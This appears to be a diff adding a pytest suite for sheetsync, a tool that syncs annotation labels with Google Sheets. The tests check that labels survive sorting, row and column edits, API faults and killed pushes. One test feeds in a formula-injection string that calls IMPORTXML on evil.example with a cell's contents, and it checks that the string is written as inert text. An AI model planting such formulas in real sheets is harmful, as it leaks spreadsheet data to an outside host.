@@ -1,0 +1,243 @@
+"""The annotation round trip on Google Sheets, through the real gspread client against the emulator:
+the expert re-orders the sheet, faults hit the write, a push is killed, the expert types during a push —
+and no label is ever lost or changed."""
+
+import os
+import subprocess
+import sys
+import threading
+import time
+
+import pytest
+
+from sheetsync.config import load_config
+from sheetsync.pull import pull
+from sheetsync.push import push
+from sheetsync.store import Store
+from sheetsync.workspace import init_workspace
+from tests.test_roundtrip_xlsx import LABELS, default_rows, write_data
+
+TITLE = "Support labels"
+
+
+class GoogleExpert:
+    """Plays the expert in Google Sheets: edits go through gspread like the web UI's would through the API."""
+
+    def __init__(self, client, title=TITLE):
+        self.sh = client.open(title)
+        self.ws = self.sh.worksheet("Annotate")
+
+    def grid(self):
+        return self.ws.get_all_values()
+
+    def rows(self):
+        grid = self.grid()
+        h = grid[0]
+        return {r[h.index("id")]: dict(zip(h, r + [""] * (len(h) - len(r)), strict=True)) for r in grid[1:]
+                if len(r) > h.index("id") and r[h.index("id")]}
+
+    def label(self, labels):
+        grid = self.grid()
+        h = grid[0]
+        updates = []
+        for r, line in enumerate(grid[1:], start=2):
+            rid = line[h.index("id")] if line else ""
+            if rid in labels:
+                for header, value in zip(("Pass/Fail", "Critique", "Root cause"), labels[rid], strict=True):
+                    col = h.index(header) + 1
+                    updates.append({"range": _a1(r, col), "values": [[value]]})
+        self.ws.batch_update(updates, value_input_option="RAW")
+
+    def request(self, body):
+        self.sh.batch_update({"requests": [body]})
+
+    def sort_by(self, header, descending=True):
+        col = self.grid()[0].index(header)
+        self.request({"sortRange": {"range": {"sheetId": self.ws.id, "startRowIndex": 1},
+                                    "sortSpecs": [{"dimensionIndex": col,
+                                                   "sortOrder": "DESCENDING" if descending else "ASCENDING"}]}})
+
+    def insert_blank_row(self, index):
+        self.request({"insertDimension": {"range": {"sheetId": self.ws.id, "dimension": "ROWS",
+                                                    "startIndex": index, "endIndex": index + 1}}})
+
+    def delete_row_with(self, rid):
+        grid = self.grid()
+        at = next(i for i, line in enumerate(grid) if line and line[0] == rid)
+        self.request({"deleteDimension": {"range": {"sheetId": self.ws.id, "dimension": "ROWS",
+                                                    "startIndex": at, "endIndex": at + 1}}})
+
+    def move_column_to_b(self, header):
+        grid = self.grid()
+        col = grid[0].index(header)
+        values = [[line[col] if col < len(line) else ""] for line in grid]
+        self.request({"insertDimension": {"range": {"sheetId": self.ws.id, "dimension": "COLUMNS",
+                                                    "startIndex": 1, "endIndex": 2}}})
+        self.ws.update(values=values, range_name=f"B1:B{len(values)}", raw=True)
+        self.request({"deleteDimension": {"range": {"sheetId": self.ws.id, "dimension": "COLUMNS",
+                                                    "startIndex": col + 1, "endIndex": col + 2}}})
+
+
+def _a1(row, col):
+    from gspread.utils import rowcol_to_a1
+
+    return rowcol_to_a1(row, col)
+
+
+@pytest.fixture
+def workspace(tmp_path, monkeypatch, sheets_emulator):
+    monkeypatch.setenv("SHEETS_EMULATOR_HOST", sheets_emulator.address)
+    monkeypatch.chdir(tmp_path)
+    init_workspace(tmp_path, spreadsheet=TITLE)
+    toml = tmp_path / "sheetsync.toml"
+    toml.write_text(
+        toml.read_text().replace("context = []", 'context = ["tier"]').replace("dimensions = []", 'dimensions = ["feature"]')
+        .replace("timeout = 30", "timeout = 3")
+    )
+    write_data(tmp_path / "data.csv", default_rows())
+    return load_config(toml)
+
+
+def test_push_pull_request_counts_are_constant(workspace, tmp_path, sheets_emulator, gspread_client):
+    sheets_emulator.clear_log()
+    push(workspace, tmp_path / "data.csv")
+    kinds = [e.kind for e in sheets_emulator.request_log]
+    assert kinds.count("write") == 1 and kinds.count("read") <= 2  # plus Drive calls to find/create by title
+    GoogleExpert(gspread_client).label(LABELS)
+    sheets_emulator.clear_log()
+    push(workspace, tmp_path / "data.csv")
+    log = [e for e in sheets_emulator.request_log if e.kind in ("read", "write")]
+    assert [e.kind for e in log].count("write") == 1 and [e.kind for e in log].count("read") <= 2
+    sheets_emulator.clear_log()
+    pull(workspace)
+    assert [e.kind for e in sheets_emulator.request_log if e.kind != "drive"] == ["read"]
+
+
+def test_the_tab_is_the_experts_workbench(workspace, tmp_path, sheets_emulator, gspread_client):
+    push(workspace, tmp_path / "data.csv")
+    meta = gspread_client.open(TITLE).fetch_sheet_metadata({"includeGridData": "false"})
+    sheets = {s["properties"]["title"]: s for s in meta["sheets"]}
+    assert list(sheets) == ["Instructions", "Annotate"]
+    annotate = sheets["Annotate"]
+    grid = annotate["properties"]["gridProperties"]
+    assert grid["frozenRowCount"] == 1 and grid["frozenColumnCount"] == 1
+    assert all(p["warningOnly"] for p in annotate["protectedRanges"])
+    assert len(annotate["conditionalFormats"]) == 4
+    validations = gspread_client.open(TITLE).fetch_sheet_metadata(
+        {"includeGridData": "true", "ranges": "'Annotate'!A2:Z2"}
+    )["sheets"][0]["data"][0]["rowData"][0]["values"]
+    rules = [v["dataValidation"] for v in validations if "dataValidation" in v]
+    choices = [[c["userEnteredValue"] for c in r["condition"]["values"]] for r in rules]
+    assert ["Pass", "Fail"] in choices and any("hallucinated fact" in c for c in choices)
+    assert any(r.get("strict") is not True for r in rules)  # root cause accepts free text
+
+
+def test_labels_survive_what_the_expert_does_to_the_sheet(workspace, tmp_path, gspread_client):
+    push(workspace, tmp_path / "data.csv")
+    expert = GoogleExpert(gspread_client)
+    expert.label(LABELS)
+    expert.sort_by("Critique")
+    expert.insert_blank_row(3)
+    expert.delete_row_with("r6")
+    expert.move_column_to_b("Critique")
+
+    rows = default_rows(7)
+    rows[1]["output"] = "a rewritten answer 2"
+    del rows[4]
+    write_data(tmp_path / "data.csv", rows)
+    result = push(workspace, tmp_path / "data.csv")
+
+    after = GoogleExpert(gspread_client).rows()
+    for rid, (verdict, critique, cause) in LABELS.items():
+        assert (after[rid]["Pass/Fail"], after[rid]["Critique"], after[rid]["Root cause"]) == (verdict, critique, cause)
+    assert result.stale == ["r2"] and after["r2"]["Status"].startswith("stale")
+    assert result.removed == ["r5"] and after["r7"]["input"] == "question 7"
+    assert GoogleExpert(gspread_client).grid()[0][1] == "Critique"
+    summary = pull(workspace)
+    assert summary.labelled == 4 and summary.stale == ["r2"]
+
+
+def test_formula_like_text_arrives_as_text(workspace, tmp_path, gspread_client):
+    rows = default_rows(1)
+    rows[0]["input"] = '=IMPORTXML("http://evil.example/?q="&A1,"//a")'
+    rows[0]["output"] = "+1"
+    rows[0]["tier"] = "007"
+    write_data(tmp_path / "data.csv", rows)
+    push(workspace, tmp_path / "data.csv")
+    ws = gspread_client.open(TITLE).worksheet("Annotate")
+    formulas = ws.get("A2:E2", value_render_option="FORMULA")[0]
+    assert formulas[2:5] == ["007", rows[0]["input"], "+1"]
+
+
+@pytest.mark.parametrize("fault", ["429", "503", "500"])
+def test_faults_on_the_write_are_retried(workspace, tmp_path, sheets_emulator, gspread_client, fault):
+    push(workspace, tmp_path / "data.csv")
+    GoogleExpert(gspread_client).label(LABELS)
+    sheets_emulator.add_fault(fault, method="POST", path_contains=":batchUpdate", count=2)
+    write_data(tmp_path / "data.csv", default_rows(8))
+    result = push(workspace, tmp_path / "data.csv")
+    assert result.added == ["r7", "r8"]
+    after = GoogleExpert(gspread_client).rows()
+    assert all(after[rid]["Critique"] == LABELS[rid][1] for rid in LABELS)
+
+
+def test_persistent_failure_is_a_clear_error_with_nothing_half_written(workspace, tmp_path, sheets_emulator,
+                                                                      gspread_client):
+    from sheetsync.errors import SheetsyncError
+
+    push(workspace, tmp_path / "data.csv")
+    GoogleExpert(gspread_client).label(LABELS)
+    before = GoogleExpert(gspread_client).grid()
+    sheets_emulator.add_fault("503", method="POST", path_contains=":batchUpdate", count=100)
+    write_data(tmp_path / "data.csv", default_rows(9))
+    with pytest.raises(SheetsyncError) as err:
+        push(workspace, tmp_path / "data.csv")
+    assert "503" in str(err.value)
+    sheets_emulator.reset_faults() if hasattr(sheets_emulator, "reset_faults") else None
+    assert GoogleExpert(gspread_client).grid() == before
+
+
+def test_expert_typing_during_a_push_is_kept(workspace, tmp_path, sheets_emulator, gspread_client):
+    push(workspace, tmp_path / "data.csv")
+    expert = GoogleExpert(gspread_client)
+    expert.label(LABELS)
+    # the push's write is held for a moment; meanwhile the expert labels r5
+    sheets_emulator.add_fault("hang", method="POST", path_contains=":batchUpdate", count=1, seconds=0.8)
+
+    def type_label():
+        time.sleep(0.2)
+        GoogleExpert(gspread_client).label({"r5": ("Fail", "Typed while sheetsync was pushing, must survive.", "")})
+
+    typist = threading.Thread(target=type_label)
+    typist.start()
+    write_data(tmp_path / "data.csv", default_rows(7))
+    push(workspace, tmp_path / "data.csv")
+    typist.join()
+    after = GoogleExpert(gspread_client).rows()
+    assert after["r5"]["Critique"] == "Typed while sheetsync was pushing, must survive."
+    assert all(after[rid]["Critique"] == LABELS[rid][1] for rid in LABELS)
+
+
+def test_a_push_killed_mid_write_loses_nothing(workspace, tmp_path, sheets_emulator, gspread_client):
+    push(workspace, tmp_path / "data.csv")
+    GoogleExpert(gspread_client).label(LABELS)
+    before = GoogleExpert(gspread_client).grid()
+    sheets_emulator.add_fault("hang", method="POST", path_contains=":batchUpdate", count=1, seconds=30)
+    write_data(tmp_path / "data.csv", default_rows(12))
+    env = {**os.environ, "SHEETS_EMULATOR_HOST": sheets_emulator.address}
+    proc = subprocess.Popen([sys.executable, "-m", "sheetsync", "push", "data.csv"], cwd=tmp_path, env=env,
+                            stdout=subprocess.PIPE, stderr=subprocess.PIPE)
+    deadline = time.time() + 20
+    while time.time() < deadline and not any(
+        e.method == "POST" and ":batchUpdate" in e.path for e in sheets_emulator.request_log
+    ):
+        time.sleep(0.05)
+    proc.kill()
+    proc.wait()
+    assert GoogleExpert(gspread_client).grid() == before  # the killed push changed nothing
+    result = push(workspace, tmp_path / "data.csv")  # and the next push completes the job
+    assert len(result.added) == 6
+    labels = Store.for_workspace(workspace.state_dir)
+    assert labels is not None
+    after = GoogleExpert(gspread_client).rows()
+    assert all(after[rid]["Critique"] == LABELS[rid][1] for rid in LABELS)
